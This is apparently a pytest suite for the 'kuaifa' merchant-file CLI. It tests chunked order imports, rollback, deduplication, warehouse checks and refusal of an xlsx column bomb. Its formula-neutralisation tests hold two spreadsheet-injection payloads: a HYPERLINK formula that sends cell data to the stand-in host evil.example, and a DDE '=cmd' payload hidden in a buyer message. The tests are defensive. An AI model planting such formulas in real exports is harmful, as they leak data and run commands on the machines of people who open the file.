"""Merchant files through the ``kuaifa`` command: big and hostile files, duplicates, warehouses, safe exports."""

import csv
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from kuaifa.cli.main import cli
from kuaifa.persistence.models import ImportBatch, Order, OrderLine, Sku, StockLevel, StockMove, Warehouse

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
EXPORT = FIXTURES / "pdd_export_2024_utf8.csv"
pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def kuaifa(monkeypatch):
    monkeypatch.setenv("KUAIFA_NOW", "2024-06-26T12:00:00+08:00")
    monkeypatch.setenv("KUAIFA_LANG", "zh-hans")
    runner = CliRunner()

    def run(*args, ok: bool = True):
        result = runner.invoke(cli, [str(a) for a in args], catch_exceptions=False)
        assert (result.exit_code == 0) is ok, result.output
        return result

    return run


@pytest.fixture
def merchant(kuaifa, tmp_path):
    kuaifa("init")
    kuaifa("shop", "add", "茶叶店")
    kuaifa("import-skus", FIXTURES / "skus.csv")
    return tmp_path


def export_lines() -> list[str]:
    return EXPORT.read_text(encoding="utf-8-sig").splitlines()


def write(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_an_export_larger_than_one_chunk_imports_in_one_batch(kuaifa, merchant, monkeypatch):
    monkeypatch.setattr("kuaifa.services.imports.CHUNK", 2)
    source = shutil.copy(EXPORT, merchant / "orders.csv")

    result = json.loads(kuaifa("import-orders", source, "--shop", "茶叶店", "--json").output)

    assert (result["rows"], result["orders"], result["created"]) == (13, 12, 12)
    assert Order.objects.count() == 12
    assert ImportBatch.objects.get().created == 12


def test_a_bad_row_after_several_chunks_leaves_nothing_imported(kuaifa, merchant, monkeypatch):
    monkeypatch.setattr("kuaifa.services.imports.CHUNK", 2)
    lines = export_lines()
    bad = lines[-1].replace(",待发货,", ",待付款,").replace(",已发货，待签收,", ",待付款,")
    source = write(merchant / "late-problem.csv", [*lines[:-1], bad.replace(lines[-1].split(",")[2], "240628-1")])

    result = kuaifa("import-orders", source, "--shop", "茶叶店", ok=False)

    assert "第 14 行，列「订单状态」，值 '待付款'" in result.output
    assert (Order.objects.count(), OrderLine.objects.count(), ImportBatch.objects.count()) == (0, 0, 0)


def test_two_exports_pasted_into_one_sheet_count_each_order_once(kuaifa, merchant):
    lines = export_lines()
    source = write(merchant / "twice.csv", [*lines, *lines[1:]])

    result = json.loads(kuaifa("import-orders", source, "--shop", "茶叶店", "--json").output)

    (line,) = OrderLine.objects.filter(order__order_sn="240626-101234567890456")
    assert (result["rows"], result["created"], result["duplicate_rows"], line.quantity) == (26, 12, 13, 2)


def test_an_adjacent_identical_row_counts_once(kuaifa, merchant):
    lines = export_lines()
    source = write(merchant / "twice.csv", [lines[0], lines[1], lines[2], lines[2], *lines[3:]])

    result = json.loads(kuaifa("import-orders", source, "--shop", "茶叶店", "--json").output)

    (line,) = OrderLine.objects.filter(order__order_sn="240626-101234567890456")
    assert (result["created"], result["duplicate_rows"], line.quantity) == (12, 1, 2)


def test_an_xlsx_bomb_is_refused_with_a_sentence_and_no_traceback(kuaifa, merchant):
    from tests.unit.test_hostile_files import far_right_bomb

    bomb = far_right_bomb(merchant / "bomb.xlsx", 2_000)

    result = kuaifa("import-orders", bomb, "--shop", "茶叶店", ok=False)

    assert "bomb.xlsx：第 1 行超过 200 列，文件未导入" in result.output
    assert "Traceback" not in result.output
    assert Order.objects.count() == 0


def test_an_unknown_warehouse_in_a_stock_sheet_is_refused_and_nothing_changes(kuaifa, merchant):
    sheet = write(merchant / "stock.csv", ["商家编码,仓库,数量", "TEA-001,MAIN,5", "CUP-002,MIAN,7"])

    result = kuaifa("import-stock", sheet, ok=False)

    assert "没有名为 MIAN 的仓库" in result.output
    assert (Warehouse.objects.filter(code="MIAN").exists(), StockMove.objects.count()) == (False, 0)


def test_an_unknown_warehouse_is_created_when_the_command_is_told_to(kuaifa, merchant):
    sheet = write(merchant / "stock.csv", ["商家编码,仓库,数量", "CUP-002,BACKUP,7"])

    kuaifa("import-stock", sheet, "--create-warehouse")

    assert StockLevel.objects.get(warehouse__code="BACKUP", sku__code="CUP-002").on_hand == 7


@pytest.mark.parametrize("command", [("receive", "3"), ("set", "3"), ("adjust", "3")])
def test_a_stock_command_naming_an_unknown_warehouse_is_refused(kuaifa, merchant, command):
    result = kuaifa("stock", command[0], "TEA-001", command[1], "--warehouse", "NOPE", ok=False)

    assert "没有名为 NOPE 的仓库" in result.output
    assert not Warehouse.objects.filter(code="NOPE").exists()


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_exported_sku_csv_neutralises_formulas_and_reimports_unchanged(kuaifa, merchant):
    Sku.objects.filter(code="TEA-001").update(name=FORMULA, spec="-1+1", bin_location="@A1")
    out = merchant / "skus-out.csv"

    kuaifa("export-skus", out)
    kuaifa("import-skus", out)

    with out.open(encoding="utf-8-sig", newline="") as handle:
        tea = next(row for row in csv.DictReader(handle) if row["商家编码"] == "TEA-001")
    assert (tea["名称"], tea["规格"], tea["库位"]) == ("'" + FORMULA, "'-1+1", "'@A1")
    assert Sku.objects.filter(code="TEA-001").values_list("name", "spec", "bin_location").get() == (
        FORMULA, "-1+1", "@A1",
    )  # fmt: skip


def test_exported_sku_xlsx_stores_formula_like_text_as_text(kuaifa, merchant):
    Sku.objects.filter(code="TEA-001").update(name=FORMULA)
    out = merchant / "skus-out.xlsx"

    kuaifa("export-skus", out)

    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    import openpyxl

    cell = next(c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s"


def test_rejected_rows_file_neutralises_buyer_text(kuaifa, merchant):
    lines = export_lines()
    poisoned = lines[1].replace(",否,,,", ",否,=cmd|' /C calc'!A0,,").replace(",60.00,63.00,1,", ",60.00,63.00,0,")
    source = write(merchant / "poisoned.csv", [lines[0], poisoned, lines[2]])

    kuaifa("import-orders", source, "--shop", "茶叶店", "--skip-invalid")

    with (merchant / "poisoned.rejected.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["买家留言"] == "'=cmd|' /C calc'!A0"
    assert row["行号"] == "2"


def test_a_limit_broken_deep_in_the_file_rolls_back_the_orders_already_ingested(kuaifa, merchant, monkeypatch):
    monkeypatch.setattr("kuaifa.services.imports.CHUNK", 2)
    lines = export_lines()
    source = write(merchant / "deep.csv", [*lines, "240628-9," + "长" * 10_001])

    result = kuaifa("import-orders", source, "--shop", "茶叶店", ok=False)

    assert result.output == "错误 [invalid_input]: deep.csv：第 15 行第 2 列超过 10000 个字符，文件未导入\n"
    assert (Order.objects.count(), ImportBatch.objects.count()) == (0, 0)
